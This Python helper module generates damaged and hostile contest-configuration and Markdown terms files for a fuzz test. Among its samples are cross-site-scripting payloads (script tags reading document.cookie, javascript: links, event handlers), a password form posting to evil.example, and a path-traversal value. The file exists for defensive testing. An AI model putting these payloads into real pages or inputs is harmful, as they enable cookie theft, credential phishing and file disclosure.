"""Hostile variants of a contest file (with ``[[track]]``, ``[phase.quota]``, ``[pages]`` and ``[data]`` tables) and of its terms file.

Used by the fuzz test (``tests/test_fuzzed_inputs.py``). Each case changes one
thing, the way a careless or hostile organizer would: for the contest file a
line dropped, doubled or cut short, a value of another type or out of range, a
table or key misspelt, a track's id doubled, a phase naming no track, a quota
broken, a bad byte, a control byte, UTF-16, Latin-1, binary; for the terms file
Markdown that tries to put a script, a form, a frame or a ``javascript:`` link in
the page, deep nesting, long lines, and files that are not text (binary, NUL,
Latin-1, UTF-16) or too big. A case is fully determined by its number and ``random.Random``.
"""

from __future__ import annotations

import random
import re

CONTEST_DAMAGES = (
    "line dropped",
    "line doubled",
    "cut short",
    "value retyped",
    "table renamed",
    "key misspelt",
    "track id doubled",
    "phase names no track",
    "phase tracks emptied",
    "phase quota broken",
    "track quota broken",
    "bad byte",
    "control byte",
    "utf-16",
    "latin-1",
    "binary",
)
VALUES = (
    '"5"',
    "-1",
    "0",
    "5.5",
    "1e400",
    "nan",
    "inf",
    "[]",
    "{}",
    "true",
    "2026-13-01T00:00:00Z",
    "99999999999999999999999",
    '"' + "x" * 10_000 + '"',
    '"../../../../etc/passwd"',
)
TABLES = {
    "[[track]]": ("[track]", "[[tracks]]", "[[track.x]]"),
    "[phase.quota]": ("[[phase.quota]]", "[phase.quotas]", "[quota.phase]"),
    "[track.parameters]": ("[[track.parameters]]", "[track.parameter]"),
    "[track.split]": ("[track.splits]", "[[track.split]]"),
    "[[phase]]": ("[phase]", "[[phases]]"),
    "[pages]": ("[[pages]]", "[page]"),
    "[data]": ("[[data]]", "[datas]"),
}
ASSIGNMENT = re.compile(r"^(\s*[\w.]+\s*=\s*)(.+?)(\s*#.*)?$")


def hostile_contest(rng: random.Random, text: str) -> tuple[str, bytes]:
    """One damage of the contest file ``text``: its kind, and the file's bytes."""
    kind = rng.choice(CONTEST_DAMAGES)
    lines = text.splitlines(keepends=True)
    where = rng.randrange(len(lines))
    if kind == "line dropped":
        text = "".join(lines[:where] + lines[where + 1 :])
    elif kind == "line doubled":
        text = "".join(lines[: where + 1] + lines[where:])
    elif kind == "cut short":
        text = text[: rng.randrange(len(text))]
    elif kind == "value retyped":
        assigned = [n for n, line in enumerate(lines) if ASSIGNMENT.match(line)]
        n = rng.choice(assigned)
        lines[n] = ASSIGNMENT.sub(lambda m: m.group(1) + rng.choice(VALUES) + (m.group(3) or ""), lines[n].rstrip("\n"))
        text = "".join(lines) + "\n"
    elif kind == "table renamed":
        header = rng.choice([h for h in TABLES if h in text])
        text = _replace_one(rng, text, header, rng.choice(TABLES[header]))
    elif kind == "key misspelt":
        key = rng.choice(re.findall(r"^(\w+) =", text, re.MULTILINE))
        swapped = key[1] + key[0] + key[2:] if len(key) > 1 and key[0] != key[1] else key + "s"
        text = _replace_one(rng, text, f"\n{key} =", f"\n{swapped} =")
    elif kind == "track id doubled":
        ids = re.findall(r'^id = "([\w.-]+)"$', text, re.MULTILINE)[1:]  # the tracks' (the first is the contest's)
        text = text.replace(f'id = "{ids[-1]}"', f'id = "{ids[0]}"')
    elif kind == "phase names no track":
        text = re.sub(r'tracks = \["(\w+)"', r'tracks = ["\1", "no-such-track"', text, count=1)
    elif kind == "phase tracks emptied":
        text = re.sub(r"tracks = \[[^\]]*\]", "tracks = []", text, count=1)
    elif kind == "phase quota broken":
        key, value = (
            rng.choice(("per_day", "total", "concurrent")),
            rng.choice(("0", "-3", '"5"', "5.5", "true", "[1]")),
        )
        text = re.sub(r"^\[phase\.quota\].*\n", lambda m: f"{m.group()}{key} = {value}\n", text, count=1, flags=re.M)
    elif kind == "track quota broken":
        value = rng.choice(("-1", "0", "1.5", '"ten"'))
        text += f"[track.quota]\nper_day = {value}\nper_month = 3\n"
    elif kind in ("bad byte", "control byte"):
        data = text.encode()
        at = rng.randrange(len(data))
        insert = (
            rng.choice((b"\xff", b"\xc3", b"\xed\xa0\x80"))
            if kind == "bad byte"
            else rng.choice((b"\x00", b"\x1b", b"\x7f"))
        )
        return kind, data[:at] + insert + data[at:]
    elif kind == "utf-16":
        return kind, text.encode("utf-16")
    elif kind == "latin-1":
        return kind, text.replace('title = "', 'title = "Défi ', 1).encode("latin-1")
    else:
        return kind, rng.randbytes(rng.choice((1, 100, 4096)))
    return kind, text.encode()


def _replace_one(rng: random.Random, text: str, old: str, new: str) -> str:
    """``text`` with one occurrence of ``old`` (drawn) replaced by ``new``."""
    starts = [m.start() for m in re.finditer(re.escape(old), text)]
    at = rng.choice(starts)
    return text[:at] + new + text[at + len(old) :]


TERMS_DAMAGES = {  # kind: whether the file is terms a page may show (valid UTF-8 text of at most 200,000 bytes)
    "script tag": True,
    "javascript link": True,
    "html form and frame": True,
    "event handler": True,
    "deep nesting": True,
    "long line": True,
    "many links": True,
    "huge": False,
    "binary": False,
    "nul byte": False,
    "escape byte": False,
    "latin-1": False,
    "utf-16": False,
    "bad byte on a later line": False,
}
TERMS = "# Terms\n\nBy taking part you agree to:\n\n1. share your method;\n2. not hand-label the test set.\n"


def hostile_terms(number: int, rng: random.Random) -> tuple[str, bytes]:
    """Hostile terms file ``number``: its kind (the keys of :data:`TERMS_DAMAGES` in turn) and its bytes."""
    kind = list(TERMS_DAMAGES)[number % len(TERMS_DAMAGES)]
    if kind == "script tag":
        text = TERMS + '<script>alert(document.cookie)</script>\n\n<img src=x onerror="alert(1)">\n'
    elif kind == "javascript link":
        text = TERMS + "[read more](javascript:alert(1)) and ![x](javascript:alert(2)) and <javascript:alert(3)>\n"
    elif kind == "html form and frame":
        text = (
            TERMS
            + '<form action="https://evil.example/"><input name=password></form>\n<iframe src="//evil.example"></iframe>\n'
        )
    elif kind == "event handler":
        text = TERMS + '<a href="#" onclick="steal()">accept</a> <div style="position:fixed;inset:0">x</div>\n'
    elif kind == "deep nesting":
        text = TERMS + "> " * rng.choice((100, 5_000)) + "deep\n" + "[" * 10_000 + "\n" + "*" * 20_000 + "\n"
    elif kind == "long line":
        text = TERMS + "word " * 30_000 + "\n"
    elif kind == "many links":
        text = TERMS + "".join(f"[{n}](https://example.org/{n}) " for n in range(3_000)) + "\n"
    elif kind == "huge":
        text = TERMS + "All of this applies. " * 20_000
    elif kind == "binary":
        return kind, rng.randbytes(4096)
    elif kind == "nul byte":
        return kind, (TERMS + "a\x00b\n").encode()
    elif kind == "escape byte":
        return kind, (TERMS + "\x1b[31mred\x1b[0m\n").encode()
    elif kind == "latin-1":
        return kind, (TERMS + "Les données restent privées.\n").encode("latin-1")
    elif kind == "utf-16":
        return kind, TERMS.encode("utf-16")
    else:
        return kind, TERMS.encode() + b"caf\xe9\n"
    return kind, text.encode()
